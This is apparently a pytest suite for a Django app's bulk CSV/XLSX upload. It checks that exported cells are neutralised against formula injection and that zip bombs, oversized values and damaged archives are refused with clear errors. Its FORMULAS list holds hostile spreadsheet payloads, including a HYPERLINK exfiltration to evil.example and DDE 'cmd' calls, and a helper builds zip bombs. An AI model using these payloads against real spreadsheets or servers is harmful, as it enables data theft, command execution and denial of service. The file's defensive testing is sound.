"""Spreadsheets handled safely both ways: every generated CSV neutralises cells a
spreadsheet program would run as formulas, and hostile uploads (a zip bomb, a 10 MB value,
a sheet that claims a million rows, garbage) are refused with a clear 400 or kept as row
errors, before the expensive parsing, never with a 500.

Files are real: zip archives built here with ``zipfile``, openpyxl workbooks, CSV text. No
test measures time; each asserts the message naming the bound, and the bombs also that
openpyxl is never asked to open them."""

from __future__ import annotations

import contextlib
import csv
import io
import random
import zipfile
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from awarding.bulk import parse, readers, selectors
from awarding.bulk import services as bulk_services
from badges.models import AchievementVersion, BulkBatch
from common import spreadsheets
from tests.badges.helpers import make_published
from tests.base import Cast
from tests.integrations.test_api_helpers import api, staff_auth

pytestmark = pytest.mark.django_db

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"
FORMULAS = [
    '=HYPERLINK("https://evil.example/steal?d="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]


# --------------------------------------------------------------------------------------------
# Real XLSX archives, built part by part
# --------------------------------------------------------------------------------------------


def _column(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _parts(rows: list[list[str]], *, dimension: str = "", last_row: int = 0) -> dict[str, bytes]:
    """The parts of a minimal workbook whose one sheet holds ``rows`` as shared strings
    (as Excel writes them); ``last_row`` adds an empty row that far down."""
    strings: list[str] = []
    sheet_rows = []
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row):
            strings.append(value)
            cells.append(f'<c r="{_column(c)}{r}" t="s"><v>{len(strings) - 1}</v></c>')
        sheet_rows.append(f'<row r="{r}">{"".join(cells)}</row>')
    if last_row:
        sheet_rows.append(f'<row r="{last_row}"/>')
    shared = "".join(f"<si><t>{_escape(s)}</t></si>" for s in strings)
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{TYPES}.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            f'ContentType="{TYPES}.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{TYPES}.sharedStrings+xml"/>'
            "</Types>"
        ).encode(),
        "_rels/.rels": (
            f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
            f'Type="{DOC_RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ).encode(),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{RELS}">'
            f'<Relationship Id="rId1" Type="{DOC_RELS}/worksheet" '
            'Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{DOC_RELS}/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>'
        ).encode(),
        "xl/worksheets/sheet1.xml": (
            f'<worksheet xmlns="{MAIN}">{dim}<sheetData>{"".join(sheet_rows)}</sheetData>'
            "</worksheet>"
        ).encode(),
        "xl/sharedStrings.xml": (
            f'<sst xmlns="{MAIN}" count="{len(strings)}" uniqueCount="{len(strings)}">'
            f"{shared}</sst>"
        ).encode(),
    }


def _zip(parts: dict[str, bytes], *, padding: dict[str, int] | None = None) -> bytes:
    """``parts`` as a deflated archive; ``padding`` appends that many bytes of blanks to a
    part, streamed 1 MiB at a time (how a zip bomb is made: blanks deflate ~1000 to 1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            extra = (padding or {}).get(name, 0)
            with archive.open(name, "w", force_zip64=extra > 1 << 30) as part:
                part.write(content)
                block = b" " * (1 << 20)
                while extra > 0:
                    part.write(block[: min(extra, len(block))])
                    extra -= len(block)
    return buffer.getvalue()


GOOD_ROWS = [["Email", "Name"], ["ada@example.com", "Ada"], ["li@example.com", "李华"]]


@pytest.fixture
def version(cast: Cast) -> AchievementVersion:
    return make_published(cast.editor, cast.issuer)


@pytest.fixture
def no_openpyxl(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """openpyxl's ``load_workbook`` replaced by a recorder: a bomb must never reach it."""
    opened: list[object] = []

    def refuse(*args: Any, **kwargs: Any) -> None:
        opened.append(args)
        raise AssertionError("openpyxl was asked to open a refused archive")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
    yield opened
    assert opened == []


def _upload(cast: Cast, version: AchievementVersion, data: bytes, name: str) -> BulkBatch:
    return bulk_services.create_batch(
        actor=cast.awarder, version=version, file_name=name, data=data
    )


def _console_post(
    client: Client, cast: Cast, version: AchievementVersion, data: bytes, name: str
) -> Any:
    client.force_login(cast.awarder)
    url = reverse("manage:bulk_upload", args=[cast.institution.slug, version.achievement_id])
    return client.post(
        url, {"file": SimpleUploadedFile(name, data), "duplicates": "skip", "notify": "on"}
    )


# --------------------------------------------------------------------------------------------
# Out: formulas neutralised
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("李华", "李华"),
        ("a-b@example.com", "a-b@example.com"),
        ("", ""),
        (12, 12),
        (-3, -3),
        (None, None),
    ],
)
def test_formula_cells_get_a_leading_quote_and_numbers_stay_numbers(
    value: object, expected: object
) -> None:
    assert spreadsheets.neutralise(value) == expected


def test_the_result_file_shows_formula_names_as_text(
    client: Client, cast: Cast, version: AchievementVersion
) -> None:
    lines = [
        f'l{n}@example.com,"{name.replace(chr(34), chr(34) * 2)}"'
        for n, name in enumerate(FORMULAS)
    ]
    lines.append('"=HYPERLINK(""https://evil.example"",""x"")",Mallory')  # as the e-mail too
    data = ("Email,Name\n" + "\n".join(lines) + "\n").encode()
    batch = _upload(cast, version, data, "cohort.csv")
    stored = sorted(batch.rows.values_list("number", "name"))
    assert [name for _number, name in stored[: len(FORMULAS)]] == FORMULAS  # kept as given

    client.force_login(cast.awarder)
    response = client.get(reverse("manage:bulk_results", args=[cast.institution.slug, batch.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[2] for row in rows[1 : len(FORMULAS) + 1]]
    assert names == ["'" + name for name in FORMULAS]
    assert rows[-1][1].lower().startswith("'=hyperlink(")
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(2, len(FORMULAS) + 3)]
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in spreadsheets.FORMULA_STARTS, row


def test_the_result_file_writer_is_the_shared_one(version: AchievementVersion, cast: Cast) -> None:
    batch = _upload(cast, version, b"Email,Name\nada@example.com,-Ada\n", "a.csv")
    text = selectors.result_csv(batch).decode("utf-8-sig")
    assert "'-Ada" in text


def test_the_templates_have_no_formula_cells() -> None:
    for language in ("en", "zh"):
        for row in csv.reader(io.StringIO(parse.template_csv(language).decode("utf-8-sig"))):
            assert all(cell[:1] not in spreadsheets.FORMULA_STARTS for cell in row)


def test_the_shared_writer_neutralises_xlsx_rows_too() -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(spreadsheets.neutralise_row(["=1+1", 2.5, "Ada"]))
    assert [c.value for c in sheet[1]] == ["'=1+1", 2.5, "Ada"]
    assert sheet["A1"].data_type == "s"  # text, not a formula


# --------------------------------------------------------------------------------------------
# In: XLSX bombs refused before openpyxl
# --------------------------------------------------------------------------------------------


def test_a_hand_built_workbook_with_shared_strings_is_read(
    cast: Cast, version: AchievementVersion
) -> None:
    batch = _upload(cast, version, _zip(_parts(GOOD_ROWS)), "cohort.xlsx")
    assert sorted(batch.rows.values_list("email", "name")) == [
        ("ada@example.com", "Ada"),
        ("li@example.com", "李华"),
    ]


def test_a_zip_bomb_is_refused_by_its_unpacked_size_unopened(
    client: Client, cast: Cast, version: AchievementVersion, no_openpyxl: list[object]
) -> None:
    bomb = _zip(_parts(GOOD_ROWS), padding={"xl/sharedStrings.xml": 120 << 20})
    assert len(bomb) < 1 << 20  # a small file…

    with pytest.raises(ValidationError, match="unpacks to more than 50 MB"):
        _upload(cast, version, bomb, "cohort.xlsx")
    response = _console_post(client, cast, version, bomb, "cohort.xlsx")

    assert response.status_code == 400
    assert "unpacks to more than 50 MB" in response.content.decode()
    assert BulkBatch.objects.count() == 0


def test_a_zip_bomb_through_the_api_is_a_400_in_the_api_format(
    cast: Cast, version: AchievementVersion, no_openpyxl: list[object]
) -> None:
    bomb = _zip(_parts(GOOD_ROWS), padding={"xl/worksheets/sheet1.xml": 120 << 20})
    client = api(staff_auth(cast.awarder))

    response = client.post(
        "/api/v1/batches",
        {
            "achievement": str(version.achievement_id),
            "file": SimpleUploadedFile("c.xlsx", bomb),
        },
    )

    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "invalid"
    assert "unpacks to more than 50 MB" in error["message"]


def test_a_part_compressed_like_a_bomb_is_refused_by_its_ratio(
    cast: Cast, version: AchievementVersion, no_openpyxl: list[object]
) -> None:
    data = _zip(_parts(GOOD_ROWS), padding={"xl/worksheets/sheet1.xml": 8 << 20})

    with pytest.raises(ValidationError, match="compressed more than 100 to 1"):
        _upload(cast, version, data, "cohort.xlsx")


def test_a_part_that_hides_its_size_is_read_no_further_than_it_declares(
    cast: Cast, version: AchievementVersion
) -> None:
    data = bytearray(_zip(_parts(GOOD_ROWS), padding={"xl/sharedStrings.xml": 4 << 20}))
    # Declare the padded part 1 KiB unpacked, in its local header and the central directory.
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + 20] == b"xl/sharedStrings.xml":
                data[start + offset : start + offset + 4] = (1024).to_bytes(4, "little")
            start += 4

    with pytest.raises(ValidationError, match="could not be read"):
        _upload(cast, version, bytes(data), "cohort.xlsx")


@override_settings(BULK_XLSX_MAX_SHARED_STRINGS=5)
def test_too_many_shared_strings_are_refused_unopened(
    cast: Cast, version: AchievementVersion, no_openpyxl: list[object]
) -> None:
    with pytest.raises(ValidationError, match="more than 5 different texts"):
        _upload(cast, version, _zip(_parts(GOOD_ROWS)), "cohort.xlsx")


@override_settings(BULK_XLSX_MAX_CELLS=5)
def test_too_many_cells_are_refused_unopened(
    cast: Cast, version: AchievementVersion, no_openpyxl: list[object]
) -> None:
    with pytest.raises(ValidationError, match="more than 5 cells"):
        _upload(cast, version, _zip(_parts(GOOD_ROWS)), "cohort.xlsx")


@override_settings(BULK_XLSX_MAX_MEMBERS=3)
def test_too_many_parts_are_refused_unopened(
    cast: Cast, version: AchievementVersion, no_openpyxl: list[object]
) -> None:
    with pytest.raises(ValidationError, match="more than 3 parts"):
        _upload(cast, version, _zip(_parts(GOOD_ROWS)), "cohort.xlsx")


def test_a_sheet_claiming_a_million_rows_stops_at_the_line_limit(
    cast: Cast, version: AchievementVersion
) -> None:
    data = _zip(_parts(GOOD_ROWS, dimension="A1:XFD1048576", last_row=1_048_576))

    with pytest.raises(ValidationError, match="more than 20000 lines, blank ones included"):
        _upload(cast, version, data, "cohort.xlsx")


def test_a_sheet_claiming_every_column_is_read_only_as_wide_as_the_limit() -> None:
    data = _zip(_parts(GOOD_ROWS, dimension="A1:XFD3"))
    rows = list(readers.xlsx_rows(data))
    assert len(rows) == 3
    assert all(len(row) <= 100 for row in rows)
    assert rows[1][:2] == ["ada@example.com", "Ada"]


# --------------------------------------------------------------------------------------------
# In: CSV sizes and values
# --------------------------------------------------------------------------------------------


def test_a_10_mb_value_is_a_clear_400_not_a_500(
    client: Client, cast: Cast, version: AchievementVersion
) -> None:
    data = b"Email,Name\nada@example.com,Ada\nli@example.com," + b"x" * 10_000_000 + b"\n"

    with pytest.raises(ValidationError, match="Line 3 is longer than 1000000 characters"):
        _upload(cast, version, data, "cohort.csv")
    response = _console_post(client, cast, version, data, "cohort.csv")

    assert response.status_code == 400
    assert "Line 3 is longer than 1000000 characters" in response.content.decode()
    assert BulkBatch.objects.count() == 0


def test_a_quoted_value_past_the_csv_field_limit_over_many_lines_is_a_clear_400(
    cast: Cast, version: AchievementVersion
) -> None:
    value = "\n".join(["x" * 1000] * 200)  # 200 kB in one value, short physical lines
    data = f'Email,Name\nada@example.com,Ada\nli@example.com,"{value}"\n'.encode()

    with pytest.raises(ValidationError, match="has a value longer than 10000 characters"):
        _upload(cast, version, data, "cohort.csv")


@override_settings(BULK_MAX_COLUMNS=3, BULK_MAX_FIELD_CHARS=10)
def test_a_row_of_millions_of_values_is_refused_before_the_csv_module_splits_it(
    cast: Cast, version: AchievementVersion
) -> None:
    data = b"Email,Name\nada@example.com,Ada\n" + b"ab," * 100_000 + b"\n"

    with pytest.raises(ValidationError, match="Line 3 is longer than 30 characters"):
        _upload(cast, version, data, "cohort.csv")


def test_a_long_value_is_a_row_error_and_the_valid_rows_are_kept(
    cast: Cast, version: AchievementVersion
) -> None:
    narrative = "证" * 20_000
    data = (
        "Email,Name,Evidence narrative\nada@example.com,Ada,Report\n"
        f"li@example.com,李华,{narrative}\nbo@example.com,Bo,\n"
    ).encode()

    batch = _upload(cast, version, data, "cohort.csv")

    rows = {r.number: r for r in batch.rows.all()}
    assert rows[2].errors == [] and rows[4].errors == []
    assert rows[3].errors == [
        {"column": "evidence_narrative", "message": "This value is longer than 10000 characters."}
    ]
    assert len(rows[3].evidence_narrative) == 10_000
    assert batch.error_rows == 1


@override_settings(BULK_MAX_UPLOAD_BYTES=1 << 20)
def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
    client: Client, cast: Cast, version: AchievementVersion
) -> None:
    data = b"Email,Name\n" + b"ada@example.com,Ada\n" * 60_000
    api_client = api(staff_auth(cast.awarder))

    console = _console_post(client, cast, version, data, "cohort.csv")
    through_api = api_client.post(
        "/api/v1/batches",
        {"achievement": str(version.achievement_id), "file": SimpleUploadedFile("c.csv", data)},
    )

    assert console.status_code == 400
    assert "The file is larger than 1 MB." in console.content.decode()
    assert through_api.status_code == 400
    assert through_api.json()["error"]["message"] == "The file is larger than 1 MB."
    assert BulkBatch.objects.count() == 0


@override_settings(BULK_MAX_LINES=20, BULK_MAX_ROWS=10)
def test_blank_lines_count_against_the_line_limit(cast: Cast, version: AchievementVersion) -> None:
    data = b"Email,Name\nada@example.com,Ada\n" + b",\n" * 50

    with pytest.raises(ValidationError, match="more than 20 lines"):
        _upload(cast, version, data, "cohort.csv")


# --------------------------------------------------------------------------------------------
# Property: the parser fails only with its own clear errors
# --------------------------------------------------------------------------------------------

_CELL = st.text(
    alphabet=st.sampled_from(list("ab=+-@\t\r\n\",;'李华\x00 .@1/")) | st.characters(),
    max_size=12,
)
_HEADERS = st.sampled_from(["Email", "Name", "电子邮箱", "学号", "Valid until", "Credits", "x"])


@st.composite
def _csv_files(draw: st.DrawFn) -> tuple[bytes, str]:
    header = draw(st.lists(_HEADERS, min_size=0, max_size=5))
    rows = draw(st.lists(st.lists(_CELL, max_size=6), max_size=6))
    text = "\n".join(",".join(row) for row in [header, *rows])
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gb18030"]))
    return text.encode(encoding, "replace"), draw(st.sampled_from(["a.csv", "a.txt", ""]))


@st.composite
def _broken_workbooks(draw: st.DrawFn) -> tuple[bytes, str]:
    rows = draw(st.lists(st.lists(_CELL.filter(str.isprintable), max_size=3), max_size=4))
    data = bytearray(_zip(_parts([["Email", "Name"], *rows])))
    for _ in range(draw(st.integers(0, 4))):
        at = draw(st.integers(0, len(data) - 1))
        data[at] = draw(st.integers(0, 255))
    cut = draw(st.integers(0, len(data)))
    return bytes(data[: max(cut, len(data) // 2)]), "a.xlsx"


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    upload=_csv_files()
    | _broken_workbooks()
    | st.tuples(st.binary(max_size=300), st.sampled_from(["a.csv", "a.xlsx"]))
)
def test_the_parser_raises_nothing_but_its_own_clear_errors(
    version: AchievementVersion, upload: tuple[bytes, str]
) -> None:
    data, name = upload
    try:
        rows = parse.parse_upload(data, name, version)
    except ValidationError as error:
        assert error.messages and all(m.strip() for m in error.messages)
    else:
        assert rows and all(isinstance(r, parse.ParsedRow) for r in rows)


def test_random_workbook_damage_never_escapes_as_another_exception(
    version: AchievementVersion,
) -> None:
    good = _zip(_parts(GOOD_ROWS))
    chance = random.Random(18)  # noqa: S311 - reproducible damage, not security
    for _ in range(40):
        data = bytearray(good)
        for _ in range(3):
            data[chance.randrange(len(data))] = chance.randrange(256)
        with contextlib.suppress(ValidationError):
            parse.parse_upload(bytes(data), "a.xlsx", version)


def test_an_encrypted_part_is_unreadable_not_a_crash(
    cast: Cast, version: AchievementVersion
) -> None:
    data = bytearray(_zip(_parts(GOOD_ROWS)))
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            data[start + flags] |= 1  # "encrypted, password required"
            start += 4

    with pytest.raises(ValidationError, match="could not be read"):
        _upload(cast, version, bytes(data), "cohort.xlsx")
